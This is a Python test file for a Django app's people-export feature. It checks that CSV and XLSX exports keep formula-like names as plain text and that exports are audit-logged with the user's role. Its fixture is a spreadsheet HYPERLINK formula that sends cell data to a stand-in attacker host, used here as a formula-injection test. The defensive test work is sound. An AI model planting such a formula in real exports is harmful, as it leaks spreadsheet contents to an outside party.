"""Exported text stays text: a name typed as a formula is not run when the export is opened."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from samdrift.core import cells
from samdrift.tenancy.models import Person

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://angripare.example/?"&A1,"Klicka")'


def test_csv_and_xlsx_helpers_neutralise_every_formula_start() -> None:
    for start in cells.FORMULA_STARTS:
        assert cells.csv_value(f"{start}1+1") == f"'{start}1+1"
    assert cells.csv_value("Anna") == "Anna"
    assert cells.csv_value(-5) == -5, "numbers are numbers, not text"
    buffer = io.StringIO()
    cells.writer(buffer, delimiter=";").writerow(["=1+1", "@SUM(A1)", "Kalle", 3])
    assert buffer.getvalue().strip() == "'=1+1;'@SUM(A1);Kalle;3"


def test_people_exports_keep_a_formula_in_a_name_as_text(world: Any, web: Any) -> None:
    Person.objects.filter(pk=world.a.employee.pk).update(first_name=FORMULA, last_name="+46701234567")
    client = web(world.admin)

    text = client.get("/people/?export=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    values = [value for row in rows for value in row]
    assert "'" + FORMULA in values and "'+46701234567" in values
    assert FORMULA not in values

    book = load_workbook(io.BytesIO(client.get("/people/?export=xlsx").content))
    found = [cell for row in book.active.iter_rows() for cell in row if cell.value == FORMULA]
    assert found, "the name is exported with its exact value"
    assert all(cell.data_type == "s" for cell in found), "stored as text, not as a formula"


def test_an_export_is_audited_in_the_role_the_user_holds(world: Any, web: Any) -> None:
    from samdrift.core.access import role_of
    from samdrift.core.models import AuditEvent, AuditEventType

    assert web(world.admin).get("/people/?export=csv").status_code == 200
    event = AuditEvent.objects.filter(event_type=AuditEventType.EXPORTED).latest("id")
    assert (event.actor_id, event.actor_role, event.object_type) == (world.admin.pk, "admin", "tenancy.person")
    assert role_of(world.a.viewer, world.a.owner.pk) == "owner_viewer"
    assert role_of(world.a.viewer, world.b.owner.pk) == ""
    assert role_of(None) == "system"
